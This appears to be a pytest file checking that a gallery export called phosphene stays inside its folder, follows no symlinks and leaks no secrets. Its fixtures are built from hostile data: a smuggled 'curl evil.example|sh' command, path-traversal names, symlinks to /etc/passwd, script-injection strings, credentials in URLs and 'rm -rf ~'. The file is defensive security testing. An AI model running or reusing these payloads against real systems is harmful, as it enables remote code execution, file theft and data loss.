"""A store that a stranger made: whatever is in it, nothing gets out, nothing gets in, and what is whole is shown."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import pytest
from store.shelf import NETWORK, OTHER, failure, fill, job, png, put, record
from web.stored import documents, named

from phosphene.address import MOST
from phosphene.errors import OutputError
from phosphene.spec import digest
from phosphene.store.ledger import Ledger, Payload
from phosphene.store.paths import index_of, network_of, record_of
from phosphene.store.place import Place
from phosphene.store.plan import Plan, Track
from phosphene.store.sealed import sealed
from phosphene.web.export import export
from phosphene.web.live.journal import Journal
from phosphene.web.pages.real import source_text
from phosphene.web.pages.shelf import Shelf
from phosphene.web.schema.documents import Picture, ScoreDoc
from phosphene.web.schema.live_documents import Ask, JobDoc
from phosphene.web.site import MARKER, Site

SECRET = b"the secret of whoever looks at it"
SHELL = "x\ncurl evil.example|sh #"
KEY, WORD = "AKIAEVIDENCE", "word-of-the-store"
CLIMBING = ["../../pwned", "..", ".", "/tmp/pwned", "a/../../pwned", "", "ABCD", "ab\n", "ab" * 40, "a b", "%2e%2e"]
GOOD, BAD, LINKED, WEB = "0123456789ab", "aaaaaaaaaaaa", "bbbbbbbbbbbb", "cccccccccccc"


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """Beside it lies what must not be seen; some of it is fine."""
    made = tmp_path / "store"
    (tmp_path / "secret.txt").write_bytes(SECRET)
    (tmp_path / "secret.png").write_bytes(png(99))
    ledger = Ledger(Place(str(made)), write=True)
    fill(ledger, "a", range(3))
    ledger.fail({**failure("a", 5), "error": f"{SHELL}<script>"})
    plans(ledger)
    scans(ledger.place)
    records(ledger)
    live(ledger.place)
    return made


def plans(ledger: Ledger) -> None:
    for number, name in enumerate(CLIMBING):
        line = {"layer": "../../pwned", "module": "", "channels": 2, "units": [[0, 2]]}
        data = {"id": f"{number:032x}", "fingerprint": name, "model": {"address": "evil"},
                "recipe": {"positive": True}, "lines": [line]}  # fmt: skip
        ledger.plan(data)
    other = {**line, "layer": "a", "channels": 3, "units": [[-5, 2]]}
    ledger.plan({**data, "id": "f" * 32, "fingerprint": OTHER, "lines": [other]})
    about = {"fingerprint": "../../pwned", "model": "evil", "spec": {}, "labels": None, "layers": [],
             "input": {"channels": 3, "height": 0, "width": "", "fixed": False, "mean": None, "std": None}}  # fmt: skip
    for name in (NETWORK, OTHER, "..", "../pwned"):
        ledger.place.write(network_of(name), sealed({"id": name, **about}))


def scans(place: Place) -> None:
    plan = Plan({"address": "evil"}, NETWORK, f"s3://{KEY}:{WORD}@lab/photos?token={WORD}", "d" * 32, 20, (3, 8, 8),
                (Track("a", 3, ()),)).to_dict()  # fmt: skip
    layers = {"a": {"file": "../../../secret.txt", "hash": "0" * 32}}
    odd = [{"fingerprint": name} for name in CLIMBING]
    odd += [{"source": 3}, {"shape": [0, 0, 0]}, {"shape": "abc"}, {"model": {}}, {"fingerprint": ["a"]}, {}]
    odd += [{"tracks": [{"name": "a", "channels": 10**15, "size": ["x"]}]}]
    for number, more in enumerate(odd):
        whole = {"plan": {**plan, **more}, "layers": layers, "pictures": 20, "skipped": []}
        place.write(f"scans/{number:032x}/scan.json", json.dumps(whole).encode())


def records(ledger: Ledger) -> None:
    page = b"<script>alert(1)</script>"
    for channel, kind in enumerate(("html", "svg", "js", "png")):
        ledger.put(record("b", channel), {"picture": Payload(png(channel) * (kind != "png") + page, kind)})
    for number, (name, kind) in enumerate(
        [
            ("../../secret", "txt"),
            ("secret", "png"),
            ("..", "/../../secret.png"),
            ("ab" * 16, "png/../../../secret.png"),
        ]
    ):
        one = {**record("c", number), "payloads": {"picture": {"hash": name, "kind": kind, "bytes": 1}}}
        ledger.place.write(record_of(NETWORK, "c", str(one["id"])), sealed(one))
    spec = job("d", 0).to_dict()
    put(ledger, record("d", 0, spec={**spec, "optimizer": {"name": SHELL}, "model": {"address": f"--output={SHELL}"}}))
    put(ledger, record("d", 1, spec={**spec, "redirect": SHELL, "target": SHELL}))
    put(ledger, record("d", 2, status="<b>fine</b>"))
    put(ledger, record("d", 3, versions=["x"], evidence="x"))
    deep: dict[str, Any] = {}
    for _ in range(200):
        deep = {"a": deep}
    put(ledger, record("d", 4, evidence=deep))
    loose = sorted(put(ledger, record("e", channel)) for channel in range(2))
    from phosphene.store.index import COLUMNS, VERSION

    key = digest({"version": VERSION, "columns": COLUMNS, "loose": loose, "packs": []})
    rows = [[SHELL] * len(COLUMNS), [1]]
    ledger.place.write(index_of(NETWORK, "e"), sealed({"key": key, "rows": rows}))


def live(place: Place) -> None:
    journal = Journal(place)
    spec = {**json.loads(json.dumps(job("a", 1).to_dict())), "optimizer": {"name": SHELL}}
    picture = Picture("i", "positive", 0, "ok", "a:1", f"jobs/{GOOD}/final.png", 16, 16, 1, 0,
                      ScoreDoc(None, None, None, ""), {}, spec, {}, "exact", "rm -rf ~", "import os")  # fmt: skip
    doc = JobDoc(GOOD, 1, "2030", SHELL, "m", Ask("ab"), "done", 1, 1, frames=(1,), pictures=(picture,))
    journal.put(doc)
    journal.put_picture(GOOD, 1, png(1))
    journal.put_picture(GOOD, "final", png(2))
    up = replace(picture, url=f"jobs/{BAD}/final/../../../../pwned.txt")
    journal.put(replace(doc, id=BAD, pictures=(up,)))
    journal.put_picture(BAD, "final", b"whatever bytes")
    linked = replace(doc, id=LINKED, frames=(1, 2), pictures=())
    journal.put(linked)
    folder = Path(place.url) / "live" / LINKED
    os.symlink("/etc/passwd", folder / "1.png")
    os.symlink("../../../secret.png", folder / "2.png")
    journal.put(replace(doc, id=WEB, frames=(1,), pictures=()))
    journal.put_picture(WEB, 1, b"<script>alert(1)</script>")


def texts(data: Any, key: str) -> Iterator[str]:
    """What stands under a key, wherever in a document."""
    for name, value in data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ():
        if name == key and isinstance(value, str):
            yield value
        yield from texts(value, key)


def around(folder: Path) -> dict[str, bytes]:
    """All files but those of the store and of the site."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and not {"store", "site"} & set(path.relative_to(folder).parts)
    }


def check_texts(docs: Any) -> None:
    lines = [line for text in texts(docs, "cli") for line in text.splitlines()]
    assert len(lines) > 10
    assert all(line.startswith(("# ", "phosphene ")) for line in lines)
    assert "rm -rf" not in "".join(lines)
    assert not any("import os" in text for text in texts(docs, "python"))


def test_an_export_stays_in_its_folder_and_holds_nothing_but_pictures(store: Path, tmp_path: Path) -> None:
    before = around(tmp_path)
    site = tmp_path / "deep" / "er" / "site"
    made = export(Shelf(Ledger(Place(str(store)))), Journal(Place(str(store))), site)
    assert around(tmp_path) == before
    found = {path.relative_to(site).as_posix(): path for path in site.rglob("*") if not path.is_dir()}
    assert not any(path.is_symlink() for path in site.rglob("*"))
    assert len(found) == made.files
    ids = "|".join((NETWORK, OTHER))
    kinds = rf"""data/(site|jobs|{ids})\.js|data/({ids})/[\w.~-]+\.js|data/({ids})/[\w.~-]+/\d+\.js
        |objects/[0-9a-f]{{2}}/[0-9a-f]{{32}}\.png|sheets/({ids})/[\w.~-]+/[0-9a-f]{{32}}\.webp
        |jobs/{GOOD}/(1|final)\.png|index\.html|app\.js|app\.css|icon\.svg|{re.escape(MARKER)}"""
    assert [name for name in found if not re.fullmatch(kinds, name, re.VERBOSE)] == []
    for name, path in found.items():
        data = path.read_bytes()
        if name.endswith(".png"):
            assert data.startswith(b"\x89PNG\r\n\x1a\n")
        for secret in (SECRET, png(99), b"root:x:0", KEY.encode(), WORD.encode(), str(tmp_path).encode()):
            assert secret not in data, name
    said = [json.loads(path.read_text()[len("phosphene.put(") : -3].partition(",")[2]) for name, path in found.items()
            if name.startswith("data/")]  # fmt: skip
    check_texts(said)
    pictures = {name for name in found if name.startswith(("objects/", "sheets/"))}
    shown = {one for one in named(said) if " " not in one}  # errors begin with an address, too
    assert shown - {f"jobs/{GOOD}/final.png"} == pictures


def test_what_is_whole_is_shown(store: Path) -> None:
    one = Shelf(Ledger(Place(str(store))))
    docs = documents(one)
    assert {line["id"] for line in docs["site"]["networks"]} == {NETWORK, OTHER}
    assert [unit["status"] for unit in docs[f"{NETWORK}/a"]["units"]] == [
        "ok",
        "ok",
        "ok",
        "missing",
        "missing",
        "failed",
    ]
    for layer in "bcd":
        for unit in range(3):
            assert docs[f"{NETWORK}/{layer}/{unit}"]["failures"] or docs[f"{NETWORK}/{layer}/{unit}"]["pictures"]
    assert len(docs[f"{OTHER}/a"]["units"]) == 3
    check_texts(docs)
    (scan,) = {line["source"] for line in docs[NETWORK]["scans"]}
    assert scan == "s3://lab/photos"
    assert source_text(f"sftp://me:{WORD}@host/a?b") == "sftp://host/a"


def test_layers_wider_than_any_take_neither_time_nor_memory(tmp_path: Path) -> None:
    ledger = Ledger(Place(str(tmp_path / "store")), write=True)
    line = {"layer": "a", "module": "", "channels": 10**15, "units": [[-5, 10**15]]}
    ledger.plan({"id": "f" * 32, "fingerprint": OTHER, "model": {"address": "evil"}, "recipe": {"positive": True},
                 "lines": [line]})  # fmt: skip
    (found,) = Shelf(ledger).network(OTHER).layers
    assert (found.units, found.asked) == (MOST, MOST)


def test_the_store_s_address_is_published_without_its_keys(tmp_path: Path) -> None:
    place = Place(f"memory://me:{WORD}@host/{tmp_path.name}/gallery?token={WORD}")
    fill(Ledger(place, write=True), "a", range(2))
    export(Shelf(Ledger(place)), Journal(place), tmp_path / "site")
    for path in tmp_path.rglob("*.js"):
        assert WORD not in path.read_text(encoding="utf-8")
    assert '"store":"gallery"' in (tmp_path / "site" / "data" / "site.js").read_text()


def test_only_jobs_that_are_what_they_say_are_read(store: Path) -> None:
    journal = Journal(Place(str(store)))
    assert {doc.id for doc in journal.jobs()} == {GOOD, LINKED, WEB}
    check = [asdict(doc) for doc in journal.jobs()]
    assert not any("rm -rf" in text for text in texts(check, "cli"))


@pytest.mark.parametrize(
    "name",
    ["", ".", "..", "../x", "a/../x", "a/./x", "/x", "a//x", "a/", "a\\x", "a\n", "a\0b", "a b", "ü", "C:x", "a/..",
     "jobs/0/final/../../../../x.txt"],
)  # fmt: skip
def test_no_name_leads_out_of_a_site(tmp_path: Path, name: str) -> None:
    site = Site(tmp_path / "deep" / "site", Place(f"memory://{tmp_path.name}"))
    site.begin()
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(OutputError, match="no name of a file of the pages"):
        site.put(name, b"x")
    assert sorted(tmp_path.rglob("*")) == before


def test_links_in_a_site_are_not_followed(tmp_path: Path) -> None:
    """Neither to write nor to tidy up; a link in a file's place is replaced."""
    outside, folder = tmp_path / "outside", tmp_path / "site"
    outside.mkdir()
    (outside / "mine.txt").write_text("mine")
    site = Site(folder, Place(f"memory://{tmp_path.name}"))
    site.begin()
    (folder / "jobs").symlink_to(outside)
    (folder / "data").mkdir()
    (folder / "data" / "x").symlink_to(outside)
    (folder / "app.js").symlink_to(outside / "mine.txt")
    for name in ("jobs/mine.txt", "jobs/new.txt", "data/x/mine.txt", "data/x/y/new.txt"):
        with pytest.raises(OutputError, match="leads elsewhere"):
            site.put(name, b"theirs")
    with pytest.raises(OutputError, match="leads elsewhere"):
        site.end(b"")
    site.put("app.js", b"mine")
    assert not (folder / "app.js").is_symlink()
    assert [path.name for path in outside.iterdir()] == ["mine.txt"]
    assert (outside / "mine.txt").read_text() == "mine"
